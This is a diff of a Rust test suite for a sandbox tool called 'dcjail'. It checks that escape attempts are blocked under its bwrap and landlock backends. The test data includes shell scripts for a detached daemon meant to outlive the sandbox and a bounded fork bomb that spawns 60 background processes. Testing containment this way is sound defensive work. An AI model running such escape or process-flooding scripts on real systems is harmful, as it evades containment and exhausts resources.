-            script: |_, _| "setsid sh -c 'sleep 2; echo alive > daemon-marker' >/dev/null 2>&1 < /dev/null & exit 0".to_string(),
-            check: |c, _, _| { std::thread::sleep(Duration::from_secs(3)); absent(&c.ws.join("daemon-marker")) } },
-        Case { group: "process", name: "fork bomb (bounded) with a timeout", protect: false, net: "none", setup: no_setup,
-            script: |c, _| format!("i=0; while [ $i -lt 60 ]; do setsid sh -c 'sleep 300; :' bomb-{} >/dev/null 2>&1 </dev/null & i=$((i+1)); done; sleep 300", c.tag),
+        Case {
+            group: "process",
+            name: "background daemon outliving dcjail",
+            protect: false,
+            net: "none",
+            setup: no_setup,
+            script: |_, _| {
+                "setsid sh -c 'sleep 2; echo alive > daemon-marker' >/dev/null 2>&1 < /dev/null & exit 0".to_string()
+            },
+            check: |c, _, _| {
+                std::thread::sleep(Duration::from_secs(3));
+                absent(&c.ws.join("daemon-marker"))
+            },
+        },
+        Case {
+            group: "process",
+            name: "fork bomb (bounded) with a timeout",
+            protect: false,
+            net: "none",
+            setup: no_setup,
+            script: |c, _| {
+                format!("i=0; while [ $i -lt 60 ]; do setsid sh -c 'sleep 300; :' bomb-{} >/dev/null 2>&1 </dev/null & i=$((i+1)); done; sleep 300", c.tag)
+            },
             check: |c, _, _| {
                 std::thread::sleep(Duration::from_millis(300));
-                let o = Command::new("pgrep").arg("-f").arg(format!("bomb-{}", c.tag)).output().unwrap();
-                if o.stdout.is_empty() { Ok(()) } else {
-                    let _ = Command::new("pkill").arg("-KILL").arg("-f").arg(format!("bomb-{}", c.tag)).status();
-                    Err(format!("{} processes left", String::from_utf8_lossy(&o.stdout).lines().count()))
+                let o = Command::new("pgrep")
+                    .arg("-f")
+                    .arg(format!("bomb-{}", c.tag))
+                    .output()
+                    .unwrap();
+                if o.stdout.is_empty() {
+                    Ok(())
+                } else {
+                    let _ = Command::new("pkill")
+                        .arg("-KILL")
+                        .arg("-f")
+                        .arg(format!("bomb-{}", c.tag))
+                        .status();
+                    Err(format!(
+                        "{} processes left",
+                        String::from_utf8_lossy(&o.stdout).lines().count()
+                    ))
                 }
-            } },
+            },
+        },
     ]
 }
 
@@ -380,7 +846,7 @@ fn run_case(case: &Case, backend: Option<&str>, idx: usize) -> Outcome {
     let mut env = Env::default();
     (case.setup)(&ctx, &mut env);
     let script = (case.script)(&ctx, &env);
-    let policy = ctx.policy(case.protect, case.net);
+    let policy = ctx.policy(case.protect, case.net, case.name.contains("deny_write"));
     let mut args: Vec<String> = vec!["--policy".into(), policy.display().to_string()];
     if let Some(b) = backend {
         args.extend(["--backend".into(), b.to_string()]);
@@ -395,6 +861,16 @@ fn run_case(case: &Case, backend: Option<&str>, idx: usize) -> Outcome {
     );
     let mut cmd = Command::new("sh");
     cmd.arg("-c").arg(outer).arg("sh");
+    if case.name.contains("unprivileged user") {
+        cmd.args([
+            "setpriv",
+            "--reuid",
+            "65534",
+            "--regid",
+            "65534",
+            "--clear-groups",
+        ]);
+    }
     match backend {
         Some(_) => {
             cmd.arg(bin()).args(&args).args(["--", "sh", "-c", &script]);
@@ -405,8 +881,14 @@ fn run_case(case: &Case, backend: Option<&str>, idx: usize) -> Outcome {
             cmd.args(["timeout", "-s", "KILL", "3", "sh", "-c", &script]);
         }
     }
-    cmd.current_dir(&ctx.ws).env_remove("DCJAIL_POLICY").env_remove("TMPDIR");
-    let pty = if case.name.starts_with("TIOCSTI") { Some(open_pty()) } else { None };
+    cmd.current_dir(&ctx.ws)
+        .env_remove("DCJAIL_POLICY")
+        .env_remove("TMPDIR");
+    let pty = if case.name.starts_with("TIOCSTI") {
+        Some(open_pty())
+    } else {
+        None
+    };
     match &pty {
         Some((_, slave)) => {
             cmd.stdin(Stdio::from(slave.try_clone().unwrap()));
@@ -423,12 +905,19 @@ fn run_case(case: &Case, backend: Option<&str>, idx: usize) -> Outcome {
         o.stdout.extend(queued);
     }
     let err = String::from_utf8_lossy(&o.stderr);
-    if backend.is_some() && o.status.code() == Some(122) && err.starts_with("dcjail: sandbox-unavailable: ") {
+    if backend.is_some()
+        && o.status.code() == Some(122)
+        && err.starts_with("dcjail: sandbox-unavailable: ")
+    {
         return Outcome::Refused;
     }
     match (case.check)(&ctx, &mut env, &o) {
         Ok(()) => Outcome::Blocked,
-        Err(e) => Outcome::Escaped(format!("{e} (status {:?}, stderr {})", o.status.code(), err.trim())),
+        Err(e) => Outcome::Escaped(format!(
+            "{e} (status {:?}, stderr {})",
+            o.status.code(),
+            err.trim()
+        )),
     }
 }
 
@@ -436,7 +925,15 @@ fn open_pty() -> (std::fs::File, std::fs::File) {
     use std::os::fd::FromRawFd;
     let (mut m, mut s) = (0, 0);
     // SAFETY: openpty writes two fds into the given pointers.
-    let r = unsafe { libc::openpty(&mut m, &mut s, std::ptr::null_mut(), std::ptr::null(), std::ptr::null()) };
+    let r = unsafe {
+        libc::openpty(
+            &mut m,
+            &mut s,
+            std::ptr::null_mut(),
+            std::ptr::null(),
+            std::ptr::null(),
+        )
+    };
     assert_eq!(r, 0, "openpty failed");
     // SAFETY: fresh fds we own.
     unsafe { (std::fs::File::from_raw_fd(m), std::fs::File::from_raw_fd(s)) }
@@ -446,7 +943,13 @@ fn read_pending(f: &std::fs::File) -> Vec<u8> {
     use std::os::fd::AsRawFd;
     let fd = f.as_raw_fd();
     // SAFETY: plain fcntl on an fd we own.
-    unsafe { libc::fcntl(fd, libc::F_SETFL, libc::fcntl(fd, libc::F_GETFL) | libc::O_NONBLOCK) };
+    unsafe {
+        libc::fcntl(
+            fd,
+            libc::F_SETFL,
+            libc::fcntl(fd, libc::F_GETFL) | libc::O_NONBLOCK,
+        )
+    };
     let mut out = Vec::new();
     let mut b = [0u8; 256];
     let mut f = f;
@@ -477,47 +980,56 @@ fn no_case_escapes_any_backend_and_every_case_escapes_without_one() {
         let control_cell = match &control {
             Outcome::Escaped(_) => "escapes".to_string(),
             other => {
-                failures.push(format!("{} / {}: the control did not escape ({other:?}): the case cannot fail", case.group, case.name));
+                failures.push(format!(
+                    "{} / {}: the control did not escape ({other:?}): the case cannot fail",
+                    case.group, case.name
+                ));
                 "DID NOT ESCAPE".to_string()
             }
         };
-        table.push_str(&format!("| {} | {} | {} |", case.group, case.name, control_cell));
+        table.push_str(&format!(
+            "| {} | {} | {} |",
+            case.group, case.name, control_cell
+        ));
         for b in BACKENDS {
             let out = run_case(case, Some(b), i);
             let cell = match &out {
                 Outcome::Blocked => "blocked".to_string(),
                 Outcome::Refused => "refused (122)".to_string(),
                 Outcome::Escaped(e) => {
-                    failures.push(format!("{} / {} under {b}: ESCAPED: {e}", case.group, case.name));
+                    failures.push(format!(
+                        "{} / {} under {b}: ESCAPED: {e}",
+                        case.group, case.name
+                    ));
                     "**ESCAPED**".to_string()
                 }
             };
+            // Refusing everything would pass trivially: landlock must enforce
+            // every case it can express (all but write subtraction inside a
+            // writable root, which needs bwrap's mounts).
+            let landlock_must_run = case.group != "protected" && !case.name.contains("deny_write");
+            if *b == "landlock" && landlock_must_run && out == Outcome::Refused {
+                failures.push(format!(
+                    "{} / {} under landlock: refused a case it can enforce",
+                    case.group, case.name
+                ));
+            }
             if *b == "bwrap" && out == Outcome::Refused {
-                failures.push(format!("{} / {} under bwrap: refused; bwrap must enforce every case", case.group, case.name));
+                failures.push(format!(
+                    "{} / {} under bwrap: refused; bwrap must enforce every case",
+                    case.group, case.name
+                ));
             }
             table.push_str(&format!(" {cell} |"));
         }
         table.push('\n');
     }
     println!("\n{table}");
-    let _ = std::fs::write(PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("escape-table.md"), &table);
+    let _ = std::fs::write(
+        PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("escape-table.md"),
+        &table,
+    );
     assert!(failures.is_empty(), "{}\n\n{table}", failures.join("\n"));
-}
-
-#[test]
-fn landlock_runs_at_least_the_network_and_privilege_cases() {
-    // Refusing everything would pass the escape test trivially; make sure the
-    // landlock backend actually enforces the cases it can express.
-    let cases = cases();
-    let mut refused = Vec::new();
-    for (i, case) in cases.iter().enumerate() {
-        if matches!(case.group, "network" | "privilege" | "read" | "process") || (case.group == "write" && case.name != "rename of a parent (deny_write dir)") {
-            if run_case(case, Some("landlock"), 1000 + i) == Outcome::Refused {
-                refused.push(format!("{} / {}", case.group, case.name));
-            }
-        }
-    }
-    assert!(refused.is_empty(), "landlock refused cases it should enforce: {refused:?}");
 }
 
 // Keep the write import used on every platform.
